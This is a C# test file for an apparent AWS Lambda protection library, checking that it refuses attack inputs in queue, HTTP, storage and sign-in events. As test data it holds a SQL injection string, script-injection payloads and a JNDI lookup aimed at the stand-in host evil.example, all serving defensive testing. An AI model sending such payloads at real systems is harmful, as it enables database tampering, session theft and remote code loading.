using Amazon.Lambda.Serialization.SystemTextJson;
using Amazon.Lambda.APIGatewayEvents;
using FunctionShield.Findings;
using FunctionShield.Guards.Data;
using FunctionShield.Policies;
using FunctionShield.Testing.Tests.Functions;

namespace FunctionShield.Testing.Tests.Snippets;

/// <summary>The code of docs/testing.md, run: each block there stands here, and TestingPageTests compares them.</summary>
public sealed class OrderFunctionTests
{
    private static readonly TestedFunction Orders = TestedFunction.Made(options => new OrderFunction(options).FunctionHandler).Under(Policy.Balanced);

    [Fact]
    public Task An_attack_in_a_message_is_refused() =>
        ShieldAssert.RefusesAsync(Orders, LambdaEvents.Sqs("""{"customer": "x' OR 'a'='a' -- "}"""));

    [Fact]
    public Task An_apostrophe_is_not() =>
        ShieldAssert.PassesAsync(Orders, LambdaEvents.Sqs("""{"customer": "O'Brien & Sons"}"""));

    [Fact]
    public Task The_standard_attacks_do_not_get_through() =>
        ShieldAssert.StandsUpToAsync(Orders, LambdaEvents.Sqs("""{"customer": "O'Brien", "note": "ring twice"}"""));

    [Fact]
    public async Task The_report_names_the_record_and_the_path()
    {
        FunctionRun run = await ShieldAssert.RefusesAsync(Orders, LambdaEvents.Sqs("first", "<script>alert(1)</script>"));

        run.Reports.Expect("xss", path: "$.Records[1].body", record: 1);
        Assert.Contains("batchItemFailures", run.Answer);
    }

    [Fact]
    public async Task Nothing_reaches_the_database()
    {
        var calls = new RecordedCalls();
        var search = new CustomerSearch(calls.Connection().Guard());
        TestedFunction function = TestedFunction
            .Of<APIGatewayHttpApiV2ProxyRequest, APIGatewayHttpApiV2ProxyResponse>(search.HandleAsync, new DefaultLambdaJsonSerializer())
            .Under(Policy.Balanced)
            .Recording(calls);

        await ShieldAssert.StandsUpToAsync(function, LambdaEvents.HttpApi("""{"name": "O'Brien"}"""), new AttackPlan
        {
            Places = place => place.Path.StartsWith("$.body", StringComparison.Ordinal),
        });
    }

    [Fact]
    public async Task The_policy_lets_the_importer_send_markup()
    {
        TestedFunction importer = TestedFunction.Empty.Named("importer").UnderText("""
            { "preset": "strict", "functions": { "importer": { "actions": { "xss": "log" } } } }
            """);

        FunctionRun run = await ShieldAssert.PassesAsync(importer, LambdaEvents.S3("<b onclick=alert(1)>.html"));
        run.Reports.Expect("xss", decision: Decision.Log);
    }

    [Fact]
    public Task A_trigger_of_any_kind_has_a_sample() =>
        ShieldAssert.RefusesAsync(TestedFunction.Empty, LambdaEvents.Sample(Trigger.Cognito).With("$.request.userAttributes.name", "${jndi:ldap://evil.example/a}"));
}
